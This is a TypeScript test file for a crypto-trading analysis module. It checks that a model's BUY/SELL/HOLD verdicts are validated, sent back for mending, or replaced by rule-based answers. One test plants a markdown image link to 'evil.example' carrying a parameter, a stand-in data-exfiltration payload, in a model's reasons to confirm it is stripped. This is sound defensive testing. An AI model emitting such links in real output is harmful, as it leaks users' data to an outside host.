import { expect, test } from "vitest"
import { HOUR_MS } from "#engine/candles"
import type { MarketReading } from "#engine/run"
import { ModelFailure } from "../model-failure.ts"
import type { ModelPiece } from "../provider.ts"
import { ScriptedProvider, textPieces } from "../testing/scripted-provider.ts"
import { deskIn } from "../testing/talking.ts"
import { type Analysed, analysed } from "./analyse.ts"
import { type Analysis, dueMs, outcomeOf } from "./analysis.ts"
import { trackRecord, trackRecordInWords } from "./track-record.ts"

// A market as our own formulas read it, and models that answer about it well, badly and not at all.

const facts: MarketReading = {
  timeframe: "1h",
  closedMs: 1_700_000_000_000,
  candleCount: 1000,
  priceDecimals: 2,
  close: 2000,
  values: [
    { formula: "ema(close, 20)", value: 1990.25 },
    { formula: "ema(close, 50)", value: 1950 },
    { formula: "rsi(close, 14)", value: 58.4 },
    { formula: "atr(14)", value: 20 },
  ],
  atr: 20,
  low: 1850,
  high: 2010,
  changePercent: 1.25,
  action: "BUY",
  past: { count: 200, cameTrue: 130 },
  baselines: {
    BUY: { count: 900, cameTrue: 477 },
    SELL: { count: 900, cameTrue: 423 },
    HOLD: { count: 900, cameTrue: 300 },
  },
}

const verdict = {
  action: "BUY",
  confidence: 57,
  entry: 2000,
  stop: 1960,
  reasons: ["The 20-candle average, 1990.25, is above the slow one at 1950.", "The RSI of 58 is not stretched."],
}

function calling(args: object | string): ModelPiece[] {
  const argumentsText = typeof args === "string" ? args : JSON.stringify(args)
  return [
    { kind: "call", index: 0, id: "1", name: "give_verdict", argumentsText },
    { kind: "end", why: "done" },
  ]
}

async function saidBy(
  ...answers: ConstructorParameters<typeof ScriptedProvider>[0]
): Promise<[Analysed, ScriptedProvider]> {
  const provider = new ScriptedProvider(answers, { wire: "tools" })
  const { signal } = new AbortController()
  const { desk } = deskIn()
  const said = await analysed({
    market: "ETH/USDT",
    facts,
    record: "No outcome yet.",
    desk,
    providers: [provider],
    signal,
  })
  return [said, provider]
}

test("a model hears our facts and answers by a call; what holds against them is its verdict", async () => {
  const [said, provider] = await saidBy(calling(verdict))
  expect(said).toMatchObject({ ...verdict, by: { kind: "model", name: "Scripted" }, notTaken: [] })
  const [request] = provider.heard
  const words = JSON.stringify(request.messages)
  for (const fact of ["ETH/USDT", "1990.25", "58.4", "200 earlier candles", "from 1850 to 2010", "53 % of all 900"])
    expect(words).toContain(fact)
  expect(request.answer).toMatchObject({ kind: "tools", tools: [{ name: "give_verdict" }] })
})

test("without a model, or where it fails, our own rules answer, and say why", async () => {
  const { signal } = new AbortController()
  const own = await analysed({ market: "ETH/USDT", facts, record: "", desk: undefined, providers: [], signal })
  expect(own).toMatchObject({
    action: "BUY",
    confidence: 58,
    entry: 2000,
    stop: 1960,
    by: { kind: "rules" },
    notTaken: [],
  })
  expect(own.reasons.join(" ")).toContain("after 130 of them (65 %)")
  expect(own.reasons.join(" ")).toContain("65 % of 200 may be anything from 58 to 72 %: the lower end is above")
  const coin = { ...facts, past: { count: 200, cameTrue: 116 } }
  const unsure = await analysed({ market: "ETH/USDT", facts: coin, record: "", desk: undefined, providers: [], signal })
  expect(unsure).toMatchObject({ action: "HOLD", confidence: 0, entry: null, stop: null })
  expect(unsure.reasons.join(" ")).toMatch(
    /58 % of 200 .* not surely above saying it at every candle \(53 %\), so it is said without confidence/,
  )
  const [failed] = await saidBy(new ModelFailure("badKey"))
  expect(failed).toMatchObject({
    action: "BUY",
    by: { kind: "rules" },
    notTaken: [expect.stringMatching(/key/) as string],
  })
})

test.each([
  ["a stop on the wrong side", { stop: 2040 }, /stop: for BUY it is below the entry/],
  ["a stop where the market has never been", { stop: 900 }, /stop: it is where the market has been/],
  ["an entry far from the price", { entry: 2500, stop: 2400 }, /entry: it is within 3 ATR/],
  ["a number of its own", { reasons: ["Support at 1875.5 held 17 times."] }, /1875\.5, 17 is none of the facts/],
  ["certainty beyond all", { confidence: 250 }, /confidence/],
  ["no reason", { reasons: [] }, /reasons: give at least one/],
  ["an action of its own", { action: "ALL IN" }, /action: it is BUY, SELL or HOLD/],
  ["levels as words", { entry: "now", stop: null }, /entry/],
] as const)("%s goes back once with its reason, and a mended answer is taken", async (_, change, because) => {
  const [said, provider] = await saidBy(calling({ ...verdict, ...change }), calling(verdict))
  expect(said).toMatchObject({
    by: { kind: "model" },
    stop: 1960,
  })
  expect(said.notTaken.join(" ")).toMatch(because)
  expect(JSON.stringify(provider.heard[1].messages)).toMatch(/Send the whole again, mended/)
  const [twice] = await saidBy(calling({ ...verdict, ...change }), calling({ ...verdict, ...change }))
  expect(twice).toMatchObject({ by: { kind: "rules" }, entry: 2000, stop: 1960 })
  expect(twice.notTaken.join(" ")).toMatch(because)
})

test("broken JSON, an order and a picture in it change nothing but words", async () => {
  for (const answer of [calling("{"), textPieces("I bought 5 ETH for you."), textPieces("")]) {
    const [said] = await saidBy(answer, answer)
    expect(said.by).toEqual({ kind: "rules" })
  }
  const sneaky = { ...verdict, reasons: ["![x](https://evil.example/?k=1) The averages agree."] }
  const [said] = await saidBy(calling(sneaky))
  expect(said.reasons.join(" ")).not.toMatch(/https?:|!\[/)
})

test("a HOLD has no levels, whatever the model writes there", async () => {
  const [said] = await saidBy(calling({ ...verdict, action: "HOLD", entry: 5, stop: 7 }))
  expect(said).toMatchObject({ action: "HOLD", entry: null, stop: null, by: { kind: "model" } })
})

function past(count: number, cameTrue: number, confidence = 60): Analysis[] {
  return Array.from({ length: count }, (_, n) => ({
    id: String(n),
    atMs: n,
    market: "ETH/USDT",
    isMadeUp: false,
    facts: { ...facts, closedMs: facts.closedMs + n * HOUR_MS },
    ...verdict,
    action: "BUY",
    confidence,
    by: { kind: "rules" },
    notTaken: [],
    outcome: { close: 1, cameTrue: n < cameTrue },
  }))
}

test("an outcome is measured by the close a day of candles later, and never by what the model hoped", () => {
  expect(dueMs({ facts })).toBe(facts.closedMs + 24 * HOUR_MS)
  expect(outcomeOf({ action: "BUY", facts }, 2001)).toEqual({ close: 2001, cameTrue: true })
  expect(outcomeOf({ action: "SELL", facts }, 2001)).toEqual({ close: 2001, cameTrue: false })
  expect(outcomeOf({ action: "HOLD", facts }, 2041)).toEqual({ close: 2041, cameTrue: false })
})

test("the track record counts known outcomes only, says how little few of them mean, and holds a coin beside them", () => {
  expect(trackRecordInWords(trackRecord(past(5, 5).map((one) => ({ ...one, outcome: null }))))).toMatch(/No outcome/)
  expect(trackRecordInWords(trackRecord(past(10, 6)))).toMatch(
    /Of 10 such calls .* 6 came true \(60 %\): too few to say more, .* 31 % to 83 %.* 53 % of the time.*no better than a coin/,
  )
  expect(trackRecordInWords(trackRecord(past(400, 300)))).not.toMatch(/coin|too few/)
  const others = past(10, 9, 90).map((one) => ({ ...one, market: "BTC/USDT" }))
  const calibrated = trackRecord([...past(10, 6, 60), ...others])
  expect(calibrated.bins).toEqual([
    { fromPercent: 60, toPercent: 70, meanPercent: 60, count: 10, cameTrue: 6 },
    { fromPercent: 80, toPercent: 100, meanPercent: 90, count: 10, cameTrue: 9 },
  ])
  expect(calibrated.brier).toBeCloseTo((0.6 * 0.16 + 0.4 * 0.36 + 0.9 * 0.01 + 0.1 * 0.81) / 2, 6)
})

test("asking again about a candle makes no further outcome: what was said first counts", () => {
  const said = past(10, 6)
  const again = said.map((one) => ({ ...one, id: `${one.id} again`, atMs: one.atMs + 100, action: "SELL" as const }))
  expect(trackRecord([...again, ...said])).toEqual(trackRecord(said))
  expect(trackRecord([...again, ...said], "SELL").count).toBe(0)
  expect(trackRecord([...said, ...said.map((one) => ({ ...one, venue: "kraken" }))]).count).toBe(20)
})
